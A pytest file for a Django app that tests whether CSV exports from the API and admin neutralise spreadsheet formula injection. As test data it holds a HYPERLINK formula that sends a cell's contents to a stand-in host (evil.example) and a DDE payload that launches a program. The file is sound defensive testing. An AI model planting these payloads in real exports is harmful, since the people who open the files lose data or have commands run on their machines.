"""CSV exports never carry a live formula: the API's ?format=csv and the admin's exports (issue 16, item 8)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from commissions.models import CommissionLine
from customers.models import SalesOrder
from metrics.models import Change, ChangeSet
from syncs.csv_safe import csv_cell, csv_writer
from tests.api.conftest import make_token

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "+44 20 7946 0000"]
)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-720.00"), -720, -0.5, "-720.00", "+3", "-1.5e-3", "Acme = Co", ""])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_a_safe_writer_neutralises_every_cell_and_still_quotes_like_csv():
    buffer = io.StringIO()
    csv_writer(buffer).writerow([HOSTILE, Decimal("-720.00"), "a,b", True])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + HOSTILE, "-720.00", "a,b", "True"]


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def hostile_line(world):
    order = SalesOrder.objects.get(number="SO-001")
    order.customer.name = HOSTILE
    order.customer.save()
    return CommissionLine.objects.create(
        month=dt.date(2026, 1, 1), order=order, order_number="SO-001", date_issued=order.date_issued,
        sales_person="@rita", customer=order.customer, customer_account_number="1001", revenue=Decimal("-720.00"),
        base=Decimal("-720.00"), amount=Decimal("-36.00"), attributed=True, calculated_at=timezone.now(),
    )  # fmt: skip


@pytest.mark.django_db
def test_the_apis_csv_export_carries_no_formula_and_keeps_negative_amounts_numbers(api, reporter, hostile_line):
    api.credentials(HTTP_AUTHORIZATION=f"Token {make_token(reporter, read_only=True)}")
    customers = {row[0]: row for row in _csv(api.get("/api/v1/fishbowl-customers/?format=csv"))}
    header = customers["id"]
    row = customers[str(hostile_line.customer_id)]
    assert row[header.index("name")] == "'" + HOSTILE
    lines = _csv(api.get("/api/v1/commission-lines/?format=csv"))
    header, row = lines[0], lines[1]
    assert row[header.index("sales_person")] == "'@rita"
    assert row[header.index("revenue")] == "-720.00"
    assert row[header.index("amount")] == "-36.00"


@pytest.mark.django_db
def test_the_admin_commissions_export_carries_no_formula(client, staff_user, hostile_line):
    client.force_login(staff_user)
    rows = _csv(client.get("/admin/commissions/commissionline/report/export.csv?month=2026-01"))
    header, row = rows[0], rows[1]
    assert row[header.index("customer")] == "'" + HOSTILE
    assert row[header.index("sales_person")] == "'@rita"
    assert row[header.index("revenue")] == "-720.00"


@pytest.mark.django_db
def test_the_admin_change_set_export_carries_no_formula(client, staff_user, world):
    change_set = ChangeSet.objects.create(built_by=staff_user, definitions_fingerprint="f")
    Change.objects.create(
        change_set=change_set, company=world["companies"][0], company_name=HOSTILE, field_name="Total Spent",
        definition_id=1, data_type="Currency", old_value=-720.0, new_value=HOSTILE, old_display="-720.00",
        new_display="=1+1", message="-oops",
    )  # fmt: skip
    client.force_login(staff_user)
    rows = _csv(client.get(f"/admin/metrics/changeset/{change_set.pk}/export.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("company")] == "'" + HOSTILE
    assert row[header.index("new")] == "'=1+1"
    assert row[header.index("message")] == "'-oops"
    assert row[header.index("old")] == "-720.00"
    assert row[header.index("old_raw")] == "-720.0"
    assert row[header.index("new_raw")].startswith('"=HYPERLINK')  # JSON text starts with a quote: inert


@pytest.mark.django_db
def test_the_api_change_set_changes_export_carries_no_formula(api, reporter, staff_user, world):
    change_set = ChangeSet.objects.create(built_by=staff_user, definitions_fingerprint="f")
    Change.objects.create(
        change_set=change_set, company=world["companies"][0], company_name=HOSTILE, field_name="Total Spent",
        definition_id=1, data_type="Currency", old_value=-720.0, new_value=1.0, old_display="-720.00",
    )  # fmt: skip
    api.credentials(HTTP_AUTHORIZATION=f"Token {make_token(reporter, read_only=True)}")
    rows = _csv(api.get(f"/api/v1/change-sets/{change_set.pk}/changes/?format=csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("company_name")] == "'" + HOSTILE
    assert row[header.index("old_display")] == "-720.00"
    assert row[header.index("old_value")] == "-720.0"
